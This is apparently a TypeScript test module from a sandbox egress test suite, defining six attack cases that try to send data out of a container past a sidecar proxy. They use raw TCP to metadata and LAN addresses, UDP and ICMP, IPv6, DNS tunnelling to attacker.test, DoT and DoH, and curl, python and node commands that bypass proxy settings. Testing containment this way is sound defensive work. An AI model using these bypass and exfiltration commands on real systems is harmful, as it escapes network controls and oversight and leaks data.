// ATTACKS A1–A6: leaving the box past the sidecar, by address, by protocol, by name server, by settings of the client.
import { randomBytes } from 'node:crypto';
import { dockerBeside } from '../../support/docker.js';
import { type Attack, gains, type Variant, variant } from './attack.js';
import { Place } from './place.js';
import type { World } from './world.js';

/** Connects to each `host:port`; says which answered. */
export async function connectTo(place: Place, targets: readonly string[]): Promise<Variant[]> {
  const answers = await place.run(
    (tools, list) =>
      Promise.all(
        list.map(async (target) => {
          const at = target.lastIndexOf(':');
          return tools.tcp(target.slice(0, at), Number(target.slice(at + 1)), 'knock\r\n\r\n', 1200);
        }),
      ),
    [...targets],
  );
  return targets.map((target, index) => {
    const answer = answers[index] as string | null | undefined;
    return variant(
      `TCP ${target}`,
      answer === undefined || answer === null ? undefined : `${target} accepted (${answer.slice(0, 20)})`,
      'no connection',
    );
  });
}

/** The host's own side of a place's network, and everything the host listens on. */
function hostTargets(place: Place, world: World): string[] {
  const { tcpPort } = world.upstreams;
  const below = world.sidecarAddress.replace(/\d+$/, (last) => String(Number(last) - 1));
  // Elsewhere the names are asked of the machine's own resolver, which may take its time.
  const names = place.kind === 'box' ? ['host.docker.internal', 'gateway.docker.internal'] : [];
  const addresses = [...world.hostAddresses, place.hostAddress, below, ...names];
  return addresses.map((address) => `${address}:${tcpPort}`);
}

export const farTargets = (place: Place, world: World): string[] => [
  ...world.hostAddresses.map((address) => `${address}:${world.upstreams.tcpPort}`),
  `${place.hostAddress}:${world.upstreams.tcpPort}`,
  ...(world.lanGateway === undefined ? [] : [`${world.lanGateway}:80`, `${world.lanGateway}:53`]),
  '169.254.169.254:80',
  '198.51.100.7:443',
  '203.0.113.7:443',
];

const a1: Attack = {
  id: 'A1',
  title: 'raw TCP to a public, LAN, link-local and metadata address',
  control: 'plain',
  attempt: (place, world) => connectTo(place, farTargets(place, world)),
};

const a2: Attack = {
  id: 'A2',
  title: 'UDP to 53, 443 (QUIC) and elsewhere, ICMP',
  control: 'plain',
  async attempt(place, world) {
    const token = randomBytes(8).toString('hex');
    const targets = [...new Set([place.hostAddress, ...world.hostAddresses])];
    const { udpPort } = world.upstreams;
    const answers = await place.run(
      async (tools, { hosts, port, text }) => {
        const payload = Buffer.from(text);
        const datagrams = hosts.flatMap((host) => [port, 53, 443].map((to) => ({ host, to })));
        datagrams.push({ host: '198.51.100.7', to: 443 }, { host: '203.0.113.7', to: 53 });
        const came = await Promise.all(
          datagrams.map(async ({ host, to }) => ({
            name: `UDP ${host}:${to}`,
            came: (await tools.udp(host, to, payload)) !== undefined,
          })),
        );
        const ping = (host: string) =>
          `python3 -c "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
s.settimeout(0.7)
s.sendto(bytes([8, 0, 0xf7, 0xff, 0, 0, 0, 0]), ('${host}', 0))
s.recv(64)"`;
        const echoes = await Promise.all(
          hosts.map(async (host) => ({
            name: `ICMP ${host}`,
            came: (await tools.sh(ping(host))).code === 0,
          })),
        );
        return [...came, ...echoes];
      },
      { hosts: targets, port: udpPort, text: token },
    );
    const heard = world.upstreams.heard().includes(token);
    return [
      ...answers.map(({ name, came }) => variant(name, came && `${name} answered`)),
      variant('what the host heard', heard && 'a datagram of the attacker reached the host', 'none arrived'),
    ];
  },
};

const a3: Attack = {
  id: 'A3',
  title: 'IPv6: literals, AAAA answers, the link-local address of the bridge',
  setting: 'a container with IPv6 left on',
  async attempt(place, world) {
    return ipv6(place, world.sidecarAddress);
  },
  async control(world) {
    const on = ['all', 'default'].flatMap((name) => ['--sysctl', `net.ipv6.conf.${name}.disable_ipv6=0`]);
    const words = ['-d', '--init', ...on, '--entrypoint', 'sleep', world.image, 'infinity'];
    const container = await dockerBeside('run', ...words);
    const place = new Place({ kind: 'docker', container, hostAddress: '', testPort: 0 });
    try {
      // An address of its own link may be used once nobody else has it, a second or two later: its flags are 80 then, no longer c0.
      await place.sh(
        'for i in $(seq 100); do grep -q " 80  *eth0$" /proc/net/if_inet6 && break; sleep 0.1; done',
      );
      const found = await ipv6(place, world.sidecarAddress);
      const needed = ['addresses of the box', 'multicast on the bridge'];
      const won = gains(found).map(({ name }) => name);
      if (!needed.every((name) => won.includes(name)))
        throw new Error(`only ${won.join(', ') || 'nothing'} won`);
      return found;
    } finally {
      place.close();
      await dockerBeside('rm', '-f', container);
    }
  },
};

async function ipv6(place: Place, sidecar: string): Promise<Variant[]> {
  const result = await place.run(async (tools, address) => {
    const os = tools.require('node:os') as typeof import('node:os');
    const addresses = Object.values(os.networkInterfaces())
      .flatMap((list) => list ?? [])
      .filter(({ family, internal }) => family === 'IPv6' && !internal)
      .map((one) => one.address);
    const reached = await Promise.all(
      ['2001:db8::1', 'fe80::1%eth0', '::ffff:198.51.100.7', 'fd00::1'].map(async (host) =>
        (await tools.tcp(host, 80, '', 1000)) === undefined ? undefined : host,
      ),
    );
    const answer = await tools.udp(address, 53, tools.query('mirror.desk.test', 28));
    const multicast = await tools.sh(
      `python3 -c "
import socket
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s.sendto(b'x', ('ff02::1', 9, 0, socket.if_nametoindex('eth0')))"`,
    );
    return {
      addresses,
      reached: reached.filter((host) => host !== undefined),
      answers: answer === undefined ? -1 : answer.readUInt16BE(6),
      multicast: multicast.code,
    };
  }, sidecar);
  return [
    variant('addresses of the box', result.addresses.join(' '), 'none but loopback'),
    variant('literals', result.reached.join(' '), 'none reached'),
    variant('AAAA of an allowed name', result.answers > 0 && 'an address was answered', 'no record'),
    variant('multicast on the bridge', result.multicast === 0 && 'it was sent', 'could not be sent'),
  ];
}

const a4: Attack = {
  id: 'A4',
  title: 'the gateway, every host address, host.docker.internal, a service on 0.0.0.0 of the host',
  control: 'plain',
  attempt: (place, world) => connectTo(place, [...new Set(hostTargets(place, world))]),
};

const a5: Attack = {
  id: 'A5',
  title: 'names that tunnel data: any record type, other resolvers, DoT, DoH',
  control: 'plain',
  async attempt(place, world) {
    const token = randomBytes(12).toString('hex');
    const { udpPort, tcpPort } = world.upstreams;
    const resolver = place.kind === 'box' ? world.sidecarAddress : place.hostAddress;
    const result = await place.run(
      async (tools, { text, at, host, udp, tcp, isBox }) => {
        const types = {
          A: 1,
          NS: 2,
          CNAME: 5,
          NULL: 10,
          MX: 15,
          TXT: 16,
          AAAA: 28,
          SRV: 33,
          HTTPS: 65,
          ANY: 255,
        };
        if (isBox) {
          const known = await tools.udp(at, 53, tools.query('mirror.desk.test', 1));
          if (known?.readUInt16BE(6) !== 1) throw new Error('an allowed name is not answered');
        }
        const names = [`${text}.attacker.test`, `${text}.other.desk.test`, `${text}.www.okx.com`];
        const questions = names.flatMap((name) =>
          Object.entries(types).map(async ([type, number]) => {
            const answer = await tools.udp(at, 53, tools.query(name, number));
            const records = answer === undefined ? 0 : answer.readUInt16BE(6);
            return { name: `${type} ${name.slice(text.length)}`, came: records > 0 };
          }),
        );
        const query = tools.query(`${text}.attacker.test`, 16);
        const framed = Buffer.concat([Buffer.from([0, query.length]), query]).toString('latin1');
        const elsewhere = [
          (async () => ({
            name: 'a resolver of the attacker',
            came: (await tools.udp(host, udp, query)) !== undefined,
          }))(),
          (async () => ({
            name: 'DNS over TCP elsewhere',
            came: (await tools.tcp(host, tcp, framed)) !== undefined,
          }))(),
          (async () => ({
            name: 'DoT at the resolver',
            came: (await tools.tcp(at, 853, framed, 800)) !== undefined,
          }))(),
          (async () => {
            const send = `GET /dns-query?dns=${query.toString('base64url')} HTTP/1.1\r\nHost: dns.attacker.test\r\n\r\n`;
            const answer = await tools.tls({ host: 'dns.attacker.test', address: at, port: 443, send });
            return { name: 'DoH by an unlisted name', came: / 200 /.test(answer) };
          })(),
        ];
        return Promise.all([...questions, ...elsewhere]);
      },
      {
        text: token,
        at: resolver,
        host: place.hostAddress,
        udp: udpPort,
        tcp: tcpPort,
        isBox: place.kind === 'box',
      },
    );
    const heard = world.upstreams.heard().includes(token);
    return [
      ...result.map(({ name, came }) => variant(name, came && `${name} was answered`, 'no record')),
      variant('what the attacker heard', heard && 'the data reached the attacker', 'nothing arrived'),
    ];
  },
};

const a6: Attack = {
  id: 'A6',
  title: 'proxy variables unset or turned elsewhere; --noproxy, --resolve, --connect-to, --interface',
  control: 'plain',
  async attempt(place, world) {
    const token = randomBytes(8).toString('hex');
    const at = place.hostAddress;
    const { tlsPort, tcpPort } = world.upstreams;
    const curl = 'curl -ksS -m 6';
    const lines = {
      'no variables': `env -i PATH=$PATH ${curl} https://${at}:${tlsPort}/${token}-1`,
      'NO_PROXY=*': `NO_PROXY='*' no_proxy='*' ${curl} https://${at}:${tlsPort}/${token}-2`,
      ALL_PROXY: `ALL_PROXY=socks5h://${at}:${tcpPort} HTTPS_PROXY= https_proxy= ${curl} https://attacker.test/${token}-3`,
      'another HTTPS proxy': `${curl} -x http://${at}:${world.upstreams.proxyPort} https://other.desk.test/${token}-4`,
      '--resolve': `${curl} --noproxy '*' --resolve attacker.test:${tlsPort}:${at} https://attacker.test:${tlsPort}/${token}-5`,
      '--connect-to': `${curl} --noproxy '*' --connect-to ::${at}:${tlsPort} https://mirror.desk.test/${token}-6`,
      '--interface': `${curl} --noproxy '*' --interface eth0 https://${at}:${tlsPort}/${token}-7`,
      '--dns-servers': `${curl} --noproxy '*' https://attacker.test/${token}-8 --doh-url https://${at}:${tlsPort}/dns`,
      python: `python3 -c "import requests; s = requests.Session(); s.trust_env = False; s.get('https://${at}:${tlsPort}/${token}-9', verify=False, timeout=6)"`,
      node: `env -u NODE_USE_ENV_PROXY NODE_TLS_REJECT_UNAUTHORIZED=0 node -e "fetch('https://${at}:${tlsPort}/${token}-a', { signal: AbortSignal.timeout(6000) })"`,
    };
    const codes = await place.run(
      (tools, all) => Promise.all(Object.values(all).map(async (line) => (await tools.sh(line)).code)),
      lines,
    );
    const arrived = world.seen(token);
    return Object.keys(lines).map((name, index) => {
      const mark = `${token}-${(index + 1).toString(16)}`;
      const isThere = arrived.some((text) => text.includes(mark));
      return variant(
        name,
        isThere && `${name}: the request arrived past the sidecar`,
        `exit ${codes[index]}`,
      );
    });
  },
};

export const egressAttacks: readonly Attack[] = [a1, a2, a3, a4, a5, a6];
